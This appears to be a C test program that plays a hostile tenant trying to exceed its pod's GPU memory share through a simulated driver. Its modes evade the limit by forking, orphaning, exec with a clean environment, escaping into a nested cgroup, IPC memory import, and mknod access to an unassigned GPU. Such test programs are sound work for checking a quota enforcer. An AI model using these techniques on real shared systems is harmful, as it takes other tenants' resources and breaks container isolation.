/* A tenant's program that tries to get more of a GPU's memory than the share of its pod.
 *
 *     attacker HOW GPU [ARGUMENT]
 *
 * It takes all that it can get in the way HOW, prints "ready", and keeps it. It talks to the simulated driver as CUDA
 * does to NVIDIA's: a connection is an open driver, and what was allocated over it is free when no process has the
 * connection any more. The program is static and reads no environment, so nothing that is preloaded or set bounds it.
 *
 * `start` asks for as many bytes as ARGUMENT says, prints whether it got them, and ends. `stay` does not end. For both,
 * the GPU may be "own": the one that the environment names.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* Where the tests mount it, beside the driver's socket. */
#ifndef FOLDER
#define FOLDER "/attack"
#endif
#define DRIVER FOLDER "/device.sock"
#define SELF FOLDER "/attacker"
#define MIB (1ULL << 20)
#define LARGEST_PIECE (1ULL << 38)
#define PROCESSES 4
#define MOST_PIECES 64
#define NUMBER "\"allocation\": "
#define NVIDIA_MAJOR 195

static _Noreturn void fail(const char *what) {
    printf("failed: %s: %s\n", what, strerror(errno));
    fflush(stdout);
    exit(1);
}

/* The first process of a container ignores signals without a handler. */
static void end(int signal) {
    (void)signal;
    _exit(0);
}

static _Noreturn void keep(void) {
    for (;;)
        pause();
}

static _Noreturn void say_ready(void) {
    puts("ready");
    fflush(stdout);
    keep();
}

/* -- The driver ------------------------------------------------------------------------------------------------- */

static int open_driver(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = DRIVER};
    int driver = socket(AF_UNIX, SOCK_STREAM, 0);
    if (driver < 0 || connect(driver, (struct sockaddr *)&address, sizeof address) < 0)
        fail("connect to " DRIVER);
    return driver;
}

/* Send a line; the answer is a line as well. */
static const char *ask(int driver, const char *format, ...) {
    static char text[1024];
    va_list arguments;
    va_start(arguments, format);
    int length = vsnprintf(text, sizeof text, format, arguments);
    va_end(arguments);
    if (write(driver, text, length) != length)
        fail("write to the driver");
    ssize_t received = 0;
    do {
        ssize_t more = read(driver, text + received, sizeof text - 1 - received);
        if (more <= 0)
            fail("read from the driver");
        received += more;
    } while (text[received - 1] != '\n');
    text[received] = '\0';
    return text;
}

static int succeeded(const char *answer) {
    return strstr(answer, "\"ok\": true") != NULL;
}

/* Memory that other processes can import, by the driver's number for it. */
static struct {
    long long number;
    unsigned long long size;
} pieces[MOST_PIECES];
static int piece_count;

static int allocate(int driver, const char *gpu, const char *kind, unsigned long long size) {
    const char *answer = ask(driver, "{\"gpu\": \"%s\", \"%s\": %llu}\n", gpu, kind, size);
    if (!succeeded(answer))
        return 0;
    if (piece_count < MOST_PIECES) {
        const char *number = strstr(answer, NUMBER);
        pieces[piece_count].number = number == NULL ? 0 : atoll(number + strlen(NUMBER));
        pieces[piece_count++].size = size;
    }
    return 1;
}

/* Allocate until nothing more is given, in ever smaller pieces. */
static void take_all_as(const char *kind, int driver, const char *gpu) {
    for (unsigned long long size = LARGEST_PIECE; size >= MIB; size /= 2)
        while (allocate(driver, gpu, kind, size))
            ;
}

static void take_all(int driver, const char *gpu) {
    take_all_as("alloc", driver, gpu);
}

/* -- Processes -------------------------------------------------------------------------------------------------- */

/* Run `steps` in a child, which then lives on, and wait until it has done them. */
static void in_child(void (*steps)(int, const char *), int driver, const char *gpu) {
    int done[2];
    char byte;
    if (pipe(done) < 0)
        fail("make a pipe");
    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child == 0) {
        steps(driver, gpu);
        if (write(done[1], "", 1) != 1)
            fail("tell the parent");
        keep();
    }
    close(done[1]);
    /* Nothing comes if it has failed, and then it has said so. */
    if (read(done[0], &byte, 1) != 1)
        exit(1);
    close(done[0]);
}

static void take_anew(int inherited, const char *gpu) {
    (void)inherited;
    take_all(open_driver(), gpu);
}

/* -- The ways --------------------------------------------------------------------------------------------------- */

static void plain(const char *gpu) {
    take_anew(-1, gpu);
}

static void managed(const char *gpu) {
    take_all_as("managed", open_driver(), gpu);
}

/* Children have the connection of their parent, and make their own. */
static void by_fork(const char *gpu) {
    int driver = open_driver();
    take_all(driver, gpu);
    for (int i = 0; i < PROCESSES; i++) {
        in_child(take_all, driver, gpu);
        in_child(take_anew, driver, gpu);
    }
}

/* As `by_fork`, but who opened the driver has ended when the memory is allocated. */
static void by_orphan(const char *gpu) {
    int opened[2], done[2];
    char byte;
    if (pipe(opened) < 0 || pipe(done) < 0)
        fail("make a pipe");
    pid_t opener = fork();
    if (opener == 0) {
        int driver = open_driver();
        ask(driver, "{\"gpu\": \"%s\", \"info\": true}\n", gpu);
        if (fork() > 0)
            _exit(0);
        if (read(opened[0], &byte, 1) != 1)
            fail("wait for the end of the parent");
        take_all(driver, gpu);
        if (write(done[1], "", 1) != 1)
            fail("tell the first process");
        keep();
    }
    waitpid(opener, NULL, 0);
    close(done[1]);
    if (write(opened[1], "", 1) != 1 || read(done[0], &byte, 1) != 1)
        fail("wait for the orphan");
}

/* The program is replaced by another one with a clean environment; memory and connection stay. */
static void by_exec(const char *gpu) {
    char connection[16];
    int driver = open_driver();
    take_all(driver, gpu);
    snprintf(connection, sizeof connection, "%d", driver);
    execle(SELF, SELF, "after-exec", gpu, connection, NULL, (char *[]){NULL});
    fail("exec");
}

static void after_exec(const char *gpu, const char *connection) {
    take_all(atoi(connection), gpu);
    take_anew(-1, gpu);
}

static void by_processes(const char *gpu) {
    for (int i = 0; i < PROCESSES; i++) {
        pid_t child = fork();
        if (child == 0) {
            execl(SELF, SELF, "plain", gpu, NULL);
            fail("exec");
        }
    }
    take_anew(-1, gpu);
}

/* Move into a control group of its own below that of the container, where it is allowed to make one. */
static void by_nested_cgroup(const char *gpu) {
    struct stat status;
    int has_v1 = stat("/sys/fs/cgroup/memory", &status) == 0;
    const char *group = has_v1 ? "/sys/fs/cgroup/memory/nested" : "/sys/fs/cgroup/nested";
    int driver = open_driver();
    take_all(driver, gpu);
    if (mkdir(group, 0755) < 0) {
        printf("no control group: %s\n", strerror(errno));
    } else {
        int file = chdir(group) < 0 ? -1 : open("cgroup.procs", O_WRONLY);
        if (file < 0 || write(file, "0", 1) != 1)
            fail("move into a control group");
        puts("in a control group of its own");
    }
    take_all(driver, gpu);
    take_anew(-1, gpu);
}

static void import_all(int inherited, const char *gpu) {
    (void)inherited;
    int driver = open_driver();
    for (int i = 0; i < piece_count; i++)
        ask(driver, "{\"import\": %lld}\n", pieces[i].number);
    take_all(driver, gpu);
}

/* Another process has the memory too. So the first one can let it go without its being free, and allocate again. */
static void by_ipc(const char *gpu) {
    int driver = open_driver();
    take_all(driver, gpu);
    in_child(import_all, driver, gpu);
    int count = piece_count;
    for (int i = 0; i < count; i++)
        ask(driver, "{\"gpu\": \"%s\", \"free\": %llu}\n", gpu, pieces[i].size);
    take_all(driver, gpu);
    close(driver);
    take_anew(-1, gpu);
}

/* Make the device node of a GPU that the container was not given, and use that GPU. */
static void by_device_node(const char *gpu, const char *minor) {
    if (mknod("/tmp/other", 0666 | S_IFCHR, makedev(NVIDIA_MAJOR, atoi(minor))) < 0)
        fail("make a device node");
    int device = open("/tmp/other", O_RDWR);
    printf("device: %s\n", device < 0 ? strerror(errno) : "open");
    /* Without a driver, whoever has access is told that there is no device. */
    if (device >= 0 || errno == ENXIO)
        take_anew(-1, gpu);
}

static void start(const char *gpu, const char *bytes) {
    const char *own = getenv("NVIDIA_VISIBLE_DEVICES");
    int driver = open_driver();
    int taken = allocate(driver, strcmp(gpu, "own") == 0 ? own : gpu, "alloc", strtoull(bytes, NULL, 10));
    puts(taken ? "UNLIMITED" : "limited");
    close(driver);
}

static void start_and_end(const char *gpu, const char *bytes) {
    start(gpu, bytes);
    exit(0);
}

static void nothing(const char *gpu) {
    (void)gpu;
}

/* -- The program ------------------------------------------------------------------------------------------------ */

static const struct {
    const char *name;
    void (*take)(const char *gpu);
} WAYS[] = {
    {"plain", plain},
    {"managed", managed},
    {"fork", by_fork},
    {"orphan", by_orphan},
    {"exec", by_exec},
    {"processes", by_processes},
    {"nested-cgroup", by_nested_cgroup},
    {"ipc", by_ipc},
    {"nothing", nothing},
};
static const struct {
    const char *name;
    void (*take)(const char *gpu, const char *argument);
} WAYS_WITH_ARGUMENT[] = {
    {"after-exec", after_exec},
    {"device-node", by_device_node},
    {"start", start_and_end},
    {"stay", start},
};

#define COUNT(array) (sizeof(array) / sizeof *(array))

int main(int count, char **arguments) {
    signal(SIGTERM, end);
    for (size_t i = 0; count == 3 && i < COUNT(WAYS); i++) {
        if (strcmp(arguments[1], WAYS[i].name) == 0) {
            WAYS[i].take(arguments[2]);
            say_ready();
        }
    }
    for (size_t i = 0; count == 4 && i < COUNT(WAYS_WITH_ARGUMENT); i++) {
        if (strcmp(arguments[1], WAYS_WITH_ARGUMENT[i].name) == 0) {
            WAYS_WITH_ARGUMENT[i].take(arguments[2], arguments[3]);
            say_ready();
        }
    }
    fputs("usage: attacker HOW GPU [ARGUMENT]\n", stderr);
    return 2;
}
